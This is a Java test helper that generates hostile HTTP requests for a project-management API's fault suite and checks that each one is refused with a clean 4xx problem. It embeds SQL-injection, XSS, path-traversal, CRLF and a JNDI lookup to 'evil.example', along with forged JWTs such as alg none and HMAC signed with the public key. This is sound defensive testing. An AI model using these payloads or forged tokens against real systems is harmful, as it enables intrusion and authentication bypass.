package io.keyprojects.system;

import io.keyprojects.testing.TestSigningKeys;
import io.restassured.path.json.JsonPath;
import io.smallrye.jwt.build.Jwt;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * The generated hostile requests of the fault suite: every one of them must be refused with a 4xx problem
 * that names nothing internal, and none may change data. Field-level mutations use only values no lenient
 * JSON binding could turn into a valid request (arrays and objects for scalars, never numbers for strings).
 */
final class HostileInput {
    record Case(String name, String method, String path, String token, byte[] body, String... headers) {
    }

    /** Class names, stack frames, SQL and driver text: none may reach a client. */
    private static final Pattern LEAK = Pattern.compile("(?i)(\\bat [a-z0-9_$]+\\.[a-z0-9_$]+\\.|exception|\\b(java|javax|jakarta|io\\.quarkus|io\\.vertx"
            + "|io\\.smallrye|io\\.netty|org\\.hibernate|org\\.jboss|com\\.fasterxml|io\\.keyprojects|org\\.postgresql|org\\.apache)\\.[a-z]"
            + "|sqlstate|syntax error at or near|violates [a-z ]*constraint|duplicate key|hibernate|jdbc|\\bselect .* from\\b|insert into|invalid byte sequence)");

    private static final String STALE = "\"999999\"";
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE project; --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%00%0d%0aSet-Cookie:x=1", "\\u0000", "{{7*7}}");

    private HostileInput() {
    }

    /** Returns null when {@code r} is a clean 4xx problem, otherwise what is wrong with it. */
    static String violation(Http.Reply r) {
        if (r.status() == 0) {
            return "no answer: " + r.body();
        }
        if (r.status() < 400 || r.status() >= 500) {
            return "status " + r;
        }
        if (!r.contentType().startsWith("application/problem+json")) {
            return "not a problem (" + r.contentType() + "): " + r;
        }
        if (LEAK.matcher(r.body()).find()) {
            return "leaks internals: " + r;
        }
        try {
            Object status = JsonPath.from(r.body()).get("status");
            if (!(status instanceof Number n) || n.intValue() != r.status()) {
                return "problem status " + status + " is not the HTTP status: " + r;
            }
        } catch (RuntimeException e) {
            return "problem body is not JSON: " + r;
        }
        return null;
    }

    static List<Case> cases(String unit, String project, String issue) {
        String commander = Http.token("commander", null);
        String department = Http.token("department", unit);
        List<Case> out = new ArrayList<>();

        // ---- bodies: a valid request of each write route, then broken every way
        bodies(out, "POST /api/projects", "POST", "/api/projects", commander, fields(
                "code", q("2026-HX-" + unit), "name", q("城东污水处理厂扩建工程"), "category", q("ECOLOGY"), "year", "2026",
                "leadUnit", q("NOSUCHUNIT"), "plannedInvestment", q("18000.00"), "annualPlannedInvestment", q("6000.00"),
                "plannedStart", q("2026-03-01"), "plannedEnd", q("2027-06-30")),
                Set.of("code", "name", "category", "year", "leadUnit"), Set.of("code", "category", "year", "plannedInvestment",
                        "annualPlannedInvestment", "plannedStart", "plannedEnd"));
        bodies(out, "PATCH /api/projects/{id}", "PATCH", "/api/projects/" + project, commander, fields(
                "progressPercent", "42.5", "completedInvestment", q("5300.00"), "plannedEnd", q("2027-09-30"), "name", q("新名称")),
                Set.of(), Set.of("progressPercent", "completedInvestment", "plannedEnd"), "If-Match", STALE);
        bodies(out, "POST /api/issues", "POST", "/api/issues", department, fields(
                "projectId", q("00000000-0000-0000-0000-000000000000"), "category", q("DEMOLITION"), "severity", q("HIGH"),
                "title", q("3户拆迁户未签约"), "responsibleUnit", q(unit)),
                Set.of("projectId", "category", "severity", "title", "responsibleUnit"), Set.of("projectId", "category", "severity"));
        bodies(out, "POST /api/issues/{id}/transitions", "POST", "/api/issues/" + issue + "/transitions", department, fields(
                "to", q("ACKNOWLEDGED"), "comment", q("已受理")), Set.of("to"), Set.of("to"), "If-Match", STALE);
        bodies(out, "POST /api/units", "POST", "/api/units", commander, fields(
                "code", q(unit), "name", q("住建局"), "kind", q("BUREAU")), Set.of("code", "name", "kind"), Set.of("code", "kind"));
        bodies(out, "POST /api/projects/{id}/phase", "POST", "/api/projects/" + project + "/phase", commander, fields(
                "phase", q("COMPLETED"), "reason", q("x")), Set.of("phase"), Set.of("phase"));

        // ---- absurd values in fields that have a range or a calendar
        String base = "\"code\":\"2026-HY-%s\",\"name\":\"n\",\"category\":\"ECOLOGY\",\"leadUnit\":\"" + unit + "\"";
        for (String year : List.of("99999999999999999999", "-1", "0", "1e400", "2026.5", "-2026", "9223372036854775808")) {
            out.add(new Case("year " + year, "POST", "/api/projects", commander,
                    utf8("{" + base.formatted(out.size()) + ",\"year\":" + year + ",\"plannedStart\":\"2026-03-01\",\"plannedEnd\":\"2027-06-30\"}")));
        }
        for (String money : List.of("-1", "-0.01", "1e400", "NaN", "Infinity", "99999999999999999999999999999999.999", "0x1F", "1,000.00", "")) {
            out.add(new Case("plannedInvestment " + money, "POST", "/api/projects", commander,
                    utf8("{" + base.formatted(out.size()) + ",\"year\":2026,\"plannedInvestment\":\"" + money + "\",\"plannedStart\":\"2026-03-01\",\"plannedEnd\":\"2027-06-30\"}")));
        }
        for (String percent : List.of("-1", "100.01", "1e9", "NaN", "-0.0001", "1e-400000")) {
            out.add(new Case("progressPercent " + percent, "PATCH", "/api/projects/" + project, commander,
                    utf8("{\"progressPercent\":" + percent + "}"), "If-Match", STALE));
        }
        for (String[] dates : List.of(new String[] {"2026-02-30", "2027-06-30"}, new String[] {"2026-13-01", "2027-06-30"},
                new String[] {"+999999999-12-31", "2027-06-30"}, new String[] {"0000-00-00", "2027-06-30"}, new String[] {"yesterday", "2027-06-30"},
                new String[] {"2026-03-01T00:00:00Z", "2027-06-30"}, new String[] {"2026-03-01", "1990-01-01"}, new String[] {"-2026-03-01", "2027-06-30"})) {
            out.add(new Case("dates " + dates[0] + ".." + dates[1], "POST", "/api/projects", commander,
                    utf8("{" + base.formatted(out.size()) + ",\"year\":2026,\"plannedStart\":\"" + dates[0] + "\",\"plannedEnd\":\"" + dates[1] + "\"}")));
        }

        // ---- queries
        for (String query : List.of("/api/projects?year=abc", "/api/projects?year=99999999999999999999", "/api/projects?page=-1",
                "/api/projects?size=0", "/api/projects?size=100000", "/api/projects?size=abc", "/api/projects?page=99999999999",
                "/api/projects?sort=%3BDROP%20TABLE%20project", "/api/projects?sort=name%3Bdelete", "/api/projects?sort=password",
                "/api/projects?sort=--", "/api/projects?phase=NOPE", "/api/projects?category=%3Cscript%3E", "/api/projects?phase=%27%20OR%201%3D1",
                "/api/issues?projectId=not-a-uuid", "/api/issues?projectId=%27%20OR%20%271%27%3D%271", "/api/issues?status=NOPE",
                "/api/issues?severity=%27%20OR%201%3D1", "/api/issues?overdue=maybe", "/api/issues?size=-5", "/api/issues?page=abc",
                "/api/issues?category=..%2F..%2Fetc", "/api/assessments/facts?period=abc", "/api/assessments/facts?period=2026-Q9",
                "/api/assessments/facts?period=99999", "/api/assessments/facts?period=%27%20OR%201%3D1%20--", "/api/assessments/facts",
                "/api/assessments/facts?period=2026-13", "/api/assessments/facts?period=2026-H3", "/api/programme/abc/summary",
                "/api/programme/99999999999/summary")) {
            out.add(new Case("query " + query, "GET", query, commander, null));
        }

        // ---- paths
        for (String path : List.of("/api/projects/not-a-uuid", "/api/projects/00000000-0000-0000-0000-000000000000",
                "/api/projects/%27%20OR%20%271%27%3D%271", "/api/projects/..%2F..%2Fq%2Fhealth", "/api/projects/%2e%2e/%2e%2e/etc/passwd",
                "/api/issues/%00", "/api/projects/%ff%fe", "/api/units/%3Cscript%3E", "/api/issues/not-a-uuid/history",
                "/api/issues/00000000-0000-0000-0000-000000000000", "/api/units/NOSUCH", "/api/projects/" + project + "/milestones/not-a-uuid",
                "/api/projects/" + "a".repeat(3000), "/api/nosuchthing", "/api/projects/" + project + "/nosuch")) {
            out.add(new Case("path " + path, "GET", path, commander, null));
        }
        for (String path : List.of("/public/../api/projects", "/public/%2e%2e/api/projects", "/api/projects/../units", "/public/..%2Fapi%2Fprojects",
                "/api/projects/%2e%2e/%2e%2e/api/audit")) {
            out.add(new Case("anonymous traversal " + path, "GET", path, null, null));
        }
        out.add(new Case("DELETE a project", "DELETE", "/api/projects/" + project, commander, null));
        out.add(new Case("PUT a project", "PUT", "/api/projects/" + project, commander, utf8("{}")));
        out.add(new Case("TRACE", "TRACE", "/api/projects", commander, null));

        // ---- tokens
        Map<String, String> tokens = badTokens(commander);
        List<String[]> routes = List.of(new String[] {"GET", "/api/projects"}, new String[] {"GET", "/api/projects/" + project},
                new String[] {"POST", "/api/projects"}, new String[] {"PATCH", "/api/projects/" + project}, new String[] {"POST", "/api/issues"},
                new String[] {"GET", "/api/issues"}, new String[] {"GET", "/api/assessments/facts?period=2026"}, new String[] {"GET", "/api/audit"},
                new String[] {"POST", "/api/units"});
        String validProject = "{\"code\":\"2026-TK-" + unit + "\",\"name\":\"n\",\"category\":\"ECOLOGY\",\"year\":2026,\"leadUnit\":\"" + unit
                + "\",\"plannedStart\":\"2026-03-01\",\"plannedEnd\":\"2027-06-30\"}";
        for (var t : tokens.entrySet()) {
            for (String[] route : routes) {
                byte[] body = route[0].equals("GET") ? null : utf8(route[1].equals("/api/projects") ? validProject
                        : route[1].equals("/api/units") ? "{\"code\":\"TK" + Math.abs(t.getKey().hashCode() % 100000) + "\",\"name\":\"x\",\"kind\":\"BUREAU\"}"
                        : route[1].equals("/api/issues") ? "{\"projectId\":\"" + project + "\",\"category\":\"LAND\",\"severity\":\"LOW\",\"title\":\"t\",\"responsibleUnit\":\"" + unit + "\"}"
                        : "{\"progressPercent\": 1}");
                out.add(new Case("token " + t.getKey() + " " + route[0] + " " + route[1], route[0], route[1], null, body,
                        "Authorization", t.getValue(), "If-Match", "\"0\""));
            }
        }
        // ---- headers
        for (String ifMatch : List.of("garbage", "\"-1\"", "\"99999999999999999999999\"", "W/\"abc\"", "\"\"", "\"1\", \"2\"")) {
            out.add(new Case("If-Match " + ifMatch + " on PATCH", "PATCH", "/api/projects/" + project, commander,
                    utf8("{\"progressPercent\": 7}"), "If-Match", ifMatch));
            out.add(new Case("If-Match " + ifMatch + " on a transition", "POST", "/api/issues/" + issue + "/transitions", department,
                    utf8("{\"to\": \"ACKNOWLEDGED\"}"), "If-Match", ifMatch));
        }
        out.add(new Case("PATCH without If-Match", "PATCH", "/api/projects/" + project, commander, utf8("{\"progressPercent\": 7}")));
        out.add(new Case("two tokens", "POST", "/api/projects", null, utf8(validProject), "Authorization", "Bearer " + department,
                "Authorization", "Bearer garbage"));
        out.add(new Case("huge header", "GET", "/api/projects", commander, null, "X-Filler", "x".repeat(64 * 1024)));
        out.add(new Case("huge Idempotency-Key", "POST", "/api/projects", commander, utf8("{\"code\": [1]}"), "Idempotency-Key", "k".repeat(10_000)));
        out.add(new Case("X-Request-Id injection", "POST", "/api/projects", commander, utf8("{\"code\": [1]}"), "X-Request-Id", "<script>alert(1)</script>" + "x".repeat(5000)));
        return out;
    }

    /** Every way to break {@code fields}: syntax, types, sizes, encodings, nesting, enums, injections. */
    private static void bodies(List<Case> out, String name, String method, String path, String token, Map<String, String> fields,
                               Set<String> required, Set<String> constrained, String... headers) {
        String valid = json(fields);
        for (int cut : new int[] {1, valid.length() / 4, valid.length() / 2, valid.length() - 2, valid.length() - 1}) {
            out.add(new Case(name + " truncated at " + cut, method, path, token, utf8(valid.substring(0, cut)), headers));
        }
        for (String broken : List.of("", "null", "[]", "42", "\"text\"", "{", "}{", "{\"a\":}", valid.replace("\":", "\"="),
                valid.replace("\"", "'"), valid.replace("}", ",}"), "{/* comment */" + valid.substring(1), "\uFEFF" + valid,
                valid + valid, valid.replaceFirst("\"([a-zA-Z]+)\":", "$1:"))) {
            out.add(new Case(name + " malformed " + abbreviate(broken), method, path, token, utf8(broken), headers));
        }
        for (String field : fields.keySet()) {
            for (String wrong : List.of("[1,2]", "{\"x\":1}", "[[[[[]]]]]")) {
                out.add(new Case(name + " " + field + "=" + wrong, method, path, token, utf8(json(with(fields, field, wrong))), headers));
            }
            out.add(new Case(name + " " + field + " 100k", method, path, token, utf8(json(with(fields, field, q("x".repeat(100_000))))), headers));
            if (required.contains(field)) {
                out.add(new Case(name + " " + field + "=null", method, path, token, utf8(json(with(fields, field, "null"))), headers));
                Map<String, String> without = new LinkedHashMap<>(fields);
                without.remove(field);
                out.add(new Case(name + " without " + field, method, path, token, utf8(json(without)), headers));
            }
            if (constrained.contains(field)) {
                for (String injection : INJECTIONS) {
                    out.add(new Case(name + " " + field + "=" + injection, method, path, token, utf8(json(with(fields, field, q(injection)))), headers));
                }
                out.add(new Case(name + " " + field + " unknown value", method, path, token, utf8(json(with(fields, field, q("SPACE PORT!")))), headers));
                String v = fields.get(field);
                out.add(new Case(name + " " + field + " lower case", method, path, token,
                        utf8(json(with(fields, field, v.startsWith("\"") ? v.toLowerCase() : v + "x"))), headers));
            }
        }
        String firstText = fields.keySet().iterator().next();
        out.add(new Case(name + " NUL in a field", method, path, token, utf8(json(with(fields, firstText, q("a\\u0000b")))), headers));
        out.add(new Case(name + " deep array", method, path, token, utf8("[".repeat(100_000)), headers));
        out.add(new Case(name + " deep object", method, path, token, utf8("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)), headers));
        out.add(new Case(name + " deep value", method, path, token, utf8(json(with(fields, firstText, "[".repeat(5_000) + "]".repeat(5_000)))), headers));
        out.add(new Case(name + " 2 MB body", method, path, token, utf8(json(with(fields, firstText, q("长".repeat(700_000))))), headers));
        if (name.equals("POST /api/projects") || name.equals("POST /api/issues/{id}/transitions")) { // one per service is enough
            out.add(new Case(name + " 12 MB body", method, path, token, utf8(json(with(fields, firstText, q("x".repeat(12 * 1024 * 1024))))), headers));
        }
        for (byte[] bad : List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80})) {
            String[] parts = json(with(fields, firstText, q("@@"))).split("@@");
            byte[] head = utf8(parts[0]);
            byte[] tail = utf8(parts[1]);
            byte[] body = new byte[head.length + bad.length + tail.length];
            System.arraycopy(head, 0, body, 0, head.length);
            System.arraycopy(bad, 0, body, head.length, bad.length);
            System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
            out.add(new Case(name + " invalid UTF-8 " + Base64.getEncoder().encodeToString(bad), method, path, token, body, headers));
        }
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")) {
            out.add(new Case(name + " as " + type, method, path, token, utf8(json(with(fields, firstText, "[1]"))), concat(headers, "Content-Type", type)));
        }
    }

    /** Tokens that must never get in: expired, wrongly signed, wrong issuer, alg none, HMAC with the public key, tampered… */
    private static Map<String, String> badTokens(String valid) {
        Map<String, String> t = new LinkedHashMap<>();
        long now = Instant.now().getEpochSecond();
        String claims = "{\"iss\":\"" + TestSigningKeys.ISSUER + "\",\"upn\":\"commander\",\"groups\":[\"commander\"],\"iat\":" + now
                + ",\"exp\":" + (now + 3600) + "}";
        t.put("garbage", "Bearer abc.def.ghi");
        t.put("empty bearer", "Bearer ");
        t.put("basic", "Basic dXNlcjpwYXNz");
        t.put("no scheme", valid);
        t.put("expired", "Bearer " + Jwt.issuer(TestSigningKeys.ISSUER).upn("commander").groups(Set.of("commander"))
                .issuedAt(now - 7200).expiresAt(now - 3600).sign(TestSigningKeys.privateKey()));
        t.put("not yet valid", "Bearer " + Jwt.issuer(TestSigningKeys.ISSUER).upn("commander").groups(Set.of("commander"))
                .claim("nbf", now + 86_400).expiresAt(now + 90_000).sign(TestSigningKeys.privateKey()));
        try {
            var generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            t.put("wrong key", "Bearer " + Jwt.issuer(TestSigningKeys.ISSUER).upn("commander").groups(Set.of("commander"))
                    .expiresIn(3600).sign(generator.generateKeyPair().getPrivate()));
            String header = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + b64(claims);
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(java.nio.file.Files.readAllBytes(TestSigningKeys.publicKeyFile()), "HmacSHA256"));
            t.put("HS256 with the public key", "Bearer " + header + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(mac.doFinal(utf8(header))));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        t.put("wrong issuer", "Bearer " + Jwt.issuer("https://evil.example").upn("commander").groups(Set.of("commander"))
                .expiresIn(3600).sign(TestSigningKeys.privateKey()));
        t.put("alg none", "Bearer " + b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + b64(claims) + ".");
        t.put("alg none unsigned", "Bearer " + b64("{\"alg\":\"none\"}") + "." + b64(claims));
        String[] parts = valid.split("\\.");
        t.put("tampered payload", "Bearer " + parts[0] + "." + b64(claims.replace("commander\"]", "commander\",\"auditor\"]")) + "." + parts[2]);
        t.put("truncated signature", "Bearer " + valid.substring(0, valid.length() - 10));
        t.put("unknown role", "Bearer " + Http.token("root", null));
        t.put("huge", "Bearer " + "a".repeat(20_000));
        return t;
    }

    private static Map<String, String> fields(String... kv) {
        Map<String, String> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            m.put(kv[i], kv[i + 1]);
        }
        return m;
    }

    private static Map<String, String> with(Map<String, String> fields, String field, String raw) {
        Map<String, String> m = new LinkedHashMap<>(fields);
        m.put(field, raw);
        return m;
    }

    private static String json(Map<String, String> fields) {
        StringBuilder s = new StringBuilder("{");
        fields.forEach((k, v) -> s.append(s.length() > 1 ? "," : "").append('"').append(k).append("\":").append(v));
        return s.append('}').toString();
    }

    private static String q(String s) {
        return "\"" + s.replace("\"", "\\\"") + "\"";
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String b64(String s) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(utf8(s));
    }

    private static String abbreviate(String s) {
        return s.length() > 30 ? s.substring(0, 30) + "…" : s;
    }

    private static String[] concat(String[] a, String... b) {
        String[] out = new String[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
